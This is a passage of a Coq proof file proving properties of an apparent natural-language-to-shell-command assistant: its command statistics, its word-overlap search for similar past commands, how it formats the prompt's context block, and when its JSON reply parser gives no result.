    (app : App) (calls : list (Args * World)) :
  never_marked (command_store app) ->
  never_marked (command_store (ask_all app calls))
  /\ executed_commands (get_statistics (command_store (ask_all app calls))) = 0
  /\ successful_commands (get_statistics (command_store (ask_all app calls))) = 0.
Proof.
  intros Hn. pose proof (ask_all_keeps_never_marked calls app Hn) as Hn'.
  split; [exact Hn'|]. apply never_marked_counts in Hn' as [He Hs].
  unfold get_statistics. cbn [executed_commands successful_commands].
  split; [exact He | exact Hs].
Qed.

Lemma ask_never_marks_executed_witness :
  total_commands
    (get_statistics
       (command_store
          (ask_all initial_app
             [(list_args, list_world); (list_args, list_world)]))) = 2
  /\ executed_commands
       (get_statistics
          (command_store
             (ask_all initial_app
                [(list_args, list_world); (list_args, list_world)]))) = 0.
Proof.
  split; [vm_compute; reflexivity|].
  destruct (ask_never_marks_executed initial_app
              [(list_args, list_world); (list_args, list_world)])
    as (_ & He & _).
  - unfold never_marked. apply (bool_decide_unpack (map_Forall _ _)).
    vm_compute. exact I.
  - exact He.
Defined.

End PipelineStatistics.

(* ===================================================================== *)
(** * Similar commands and the context block *)
(* ===================================================================== *)

Section ContextSearch.
Import Context ContextOps.

Lemma In_insert_scored x l y :
  In y (insert_scored x l) <-> y = x \/ In y l.
Proof.
  induction l as [|z l IH]; cbn [insert_scored].
  - cbn. intuition congruence.
  - destruct (fst z <=? fst x)%Z; cbn [In].
    + intuition congruence.
    + rewrite IH. intuition congruence.
Qed.

Lemma In_sort_scored l y : In y (sort_scored l) <-> In y l.
Proof.
  induction l as [|x l IH]; cbn [sort_scored]; [reflexivity|].
  rewrite In_insert_scored, IH. cbn. intuition congruence.
Qed.

Lemma In_take {A} (l : list A) k x : In x (take k l) -> In x l.
Proof.
  revert k. induction l as [|y l IH]; intros [|k]; cbn; try tauto.
  intros [H|H]; [left; exact H | right; exact (IH k H)].
Qed.

Lemma first_slice_length {A} (n : Z) (l : list A) :
  0 <= n -> Z.of_nat (length (PyText.first_slice n l)) <= n.
Proof.
  intros Hn. unfold PyText.first_slice.
  destruct (Z.ltb_spec n 0); [lia|]. rewrite length_take. lia.
Qed.

Lemma overlap_positive qw iw :
  0 < overlap qw iw -> exists word, In word qw /\ In word iw.
Proof.
  unfold overlap. intros H.
  assert (Hs : (0 < size ((list_to_set qw : gset string) ∩ list_to_set iw))%nat)
    by lia.
  apply size_pos_elem_of in Hs as (word & Hw).
  apply elem_of_intersection in Hw as [H1 H2].
  apply elem_of_list_to_set in H1, H2.
  exists word. split; apply list_elem_of_In; assumption.
Qed.

Lemma overlap_no_words iw : overlap [] iw = 0.
Proof.
  unfold overlap. cbn [list_to_set].
  rewrite (left_absorb_L ∅ (∩)), size_empty. reflexivity.
Qed.

(** X28.  [get_similar_commands] returns only commands of history
    entries whose query shares a word with the given query, letter case
    aside; never more than [limit] of them when [limit] is not negative;
    and none at all for a query without words. *)
Theorem similar_commands_sound
    (cm : ContextManager) (query : string) (limit : Z) :
  (forall c, In c (get_similar_commands cm query limit) ->
     exists item word,
       In item (history cm) /\ command item = c
       /\ In word (PyText.split (PyText.lower query))
       /\ In word (PyText.split (PyText.lower (Context.query item))))
  /\ (0 <= limit ->
      Z.of_nat (length (get_similar_commands cm query limit)) <= limit)
  /\ (PyText.split (PyText.lower query) = [] ->
      get_similar_commands cm query limit = []).
Proof.
  unfold get_similar_commands. split; [|split].
  - intros c Hc. apply in_map_iff in Hc as ([n c'] & Hsnd & Hin).
    cbn in Hsnd. subst c'. unfold PyText.first_slice in Hin.
    apply In_take in Hin. apply (proj1 (In_sort_scored _ _)) in Hin.
    unfold scored_commands in Hin.
    apply in_flat_map in Hin as (item & Hitem & Hin).
    cbv zeta in Hin.
    destruct (Z.gtb_spec
                (overlap (PyText.split (PyText.lower query))
                   (PyText.split (PyText.lower (Context.query item)))) 0)
      as [Hpos|Hle]; [|destruct Hin].
    destruct Hin as [Heq|[]]. injection Heq as _ <-.
    destruct (overlap_positive
                (PyText.split (PyText.lower query))
                (PyText.split (PyText.lower (Context.query item))))
      as (word & H1 & H2); [lia|].
    exists item, word. auto.
  - intros Hl. rewrite length_map. apply first_slice_length. exact Hl.
  - intros Hq. unfold scored_commands. rewrite Hq. cbv zeta.
    assert (Hnil : forall l : list HistoryItem,
              flat_map
                (fun item =>
                   if (overlap [] (PyText.split
                                     (PyText.lower (Context.query item))) >? 0)%Z
                   then [(overlap [] (PyText.split
                                        (PyText.lower (Context.query item))),
                          command item)]
                   else [])
                l = []).
    { induction l as [|item l IH]; [reflexivity|].
      cbn [flat_map]. rewrite overlap_no_words, IH. reflexivity. }
    rewrite Hnil. unfold PyText.first_slice.
    destruct (limit <? 0)%Z; cbn; rewrite take_nil; reflexivity.
Qed.

Lemma similar_commands_sound_witness :
  get_similar_commands
    (mkContextManager 50
       [mkHistoryItem "list files" "ls -la" 1 true;
        mkHistoryItem "show disk space" "df -h" 2 true;
        mkHistoryItem "List hidden files" "ls -a" 3 false])
    "FILES and more" 3
  = ["ls -la"; "ls -a"].
Proof.
  destruct (similar_commands_sound
              (mkContextManager 50
                 [mkHistoryItem "list files" "ls -la" 1 true;
                  mkHistoryItem "show disk space" "df -h" 2 true;
                  mkHistoryItem "List hidden files" "ls -a" 3 false])
              "FILES and more" 3) as (_ & Hlen & _).
  assert (H3 : 0 <= 3) by lia. specialize (Hlen H3).
  vm_compute. reflexivity.
Defined.

Lemma last_slice_pos {A} (n : Z) (l : list A) :
  0 < n -> last_slice n l = drop (length l - Z.to_nat n) l.
Proof.
  intros Hn. unfold last_slice. destruct (Z.ltb_spec (- n) 0); [|lia].
  f_equal. lia.
Qed.

Lemma last_slice_nested {A} (l : list A) :
  last_slice 3 (last_slice 5 l) = last_slice 3 l.
Proof.
  rewrite !last_slice_pos by lia. rewrite drop_drop, length_drop.
  f_equal. lia.
Qed.

Lemma last_slice_map {A B} (f : A -> B) n (l : list A) :
  last_slice n (map f l) = map f (last_slice n l).
Proof.
  unfold last_slice. rewrite length_map. apply skipn_map.
Qed.

Lemma last_slice_nil_iff {A} (n : Z) (l : list A) :
  0 < n -> last_slice n l = [] <-> l = [].
Proof.
  intros Hn. rewrite last_slice_pos by exact Hn. split.
  - intros H. destruct l as [|x l]; [reflexivity|].
    apply (f_equal (@length A)) in H. rewrite length_drop in H.
    cbn [length] in H. lia.
  - intros ->. reflexivity.
Qed.

(** X29.  The context block of the prompt names the current directory,
    the operating system and the shell when the session holds them, and
    lists the commands of the three newest history entries, oldest
    first, though [get_context] collects five; with an empty history it
    lists none. *)
Theorem formatted_context_lines (m : Manager) (cwd : string) :
  ParserOps.context_lines (get_context m cwd) =
    ["Current directory: " +:+ cwd]
    ++ match current_session m !! "os_info" with
       | Some v => ["Operating system: " +:+ v]
       | None => []
       end
    ++ match current_session m !! "shell" with
       | Some v => ["Shell: " +:+ v]
       | None => []
       end
    ++ match last_slice 3 (history (core m)) with
       | [] => []
       | item :: items =>
           "Recent commands:"
           :: map (fun i => "  - " +:+ command i) (item :: items)
       end.
Proof.
  unfold ParserOps.context_lines, get_context. cbn [entries previous_commands].
  rewrite lookup_insert_eq.
  rewrite !lookup_insert_ne, !lookup_delete_ne by discriminate.
  f_equal. f_equal. f_equal.
  destruct (map command (last_slice 5 (history (core m)))) as [|c cs] eqn:H5.
  - apply map_eq_nil in H5. apply last_slice_nil_iff in H5; [|lia].
    rewrite H5. reflexivity.
  - rewrite <- H5, last_slice_map, last_slice_nested.
    destruct (last_slice 3 (history (core m))) as [|item items] eqn:H3.
    + apply last_slice_nil_iff in H3; [|lia]. rewrite H3 in H5. discriminate.
    + rewrite map_map. reflexivity.
Qed.

End ContextSearch.

Section ParserResults.
Import Parser ParserSpec.

(** X30.  [parse] gives no result in exactly four cases: the backend
    raised; [json.loads] raised an exception other than
    [JSONDecodeError]; [json.loads] returned a value that is no [dict];
    [json.loads] raised [JSONDecodeError] and no line of the reply holds
    a command.  Whenever [json.loads] returns a [dict], [parse] gives a
    result, whatever keys the [dict] holds. *)
Theorem parse_none_iff (generated : Generated) (loaded : Loaded) (query : string) :
  parse generated loaded query = None <->
  generated = GenerateRaised
  \/ exists text,
       generated = Response text
       /\ (loaded = LoadRaised
           \/ loaded = NotAnObject
           \/ (loaded = JSONDecodeError
               /\ Forall (fun l => command_line l = false)
                         (PyStr.split_lines (PyStr.strip text)))).
Proof.
  unfold parse. destruct generated as [text|].
  - destruct loaded as [| |fields|].
    + unfold _fallback_parse.
      destruct (first_command_line _) as [cmd|] eqn:Hf.
      * split; [discriminate|].
        intros [H | (t & Ht & [H | [H | [_ H]]])]; try discriminate.
        injection Ht as <-. apply first_command_line_None in H. congruence.
      * split; [|reflexivity]. intros _. right. exists text.
        apply first_command_line_None in Hf. auto.
    + split; [|reflexivity]. intros _. right. exists text. auto.
    + split; [discriminate|].
      intros [H | (t & _ & [H | [H | [H _]]])]; discriminate.
    + split; [|reflexivity]. intros _. right. exists text. auto.
  - split; [auto | reflexivity].
Qed.

End ParserResults.
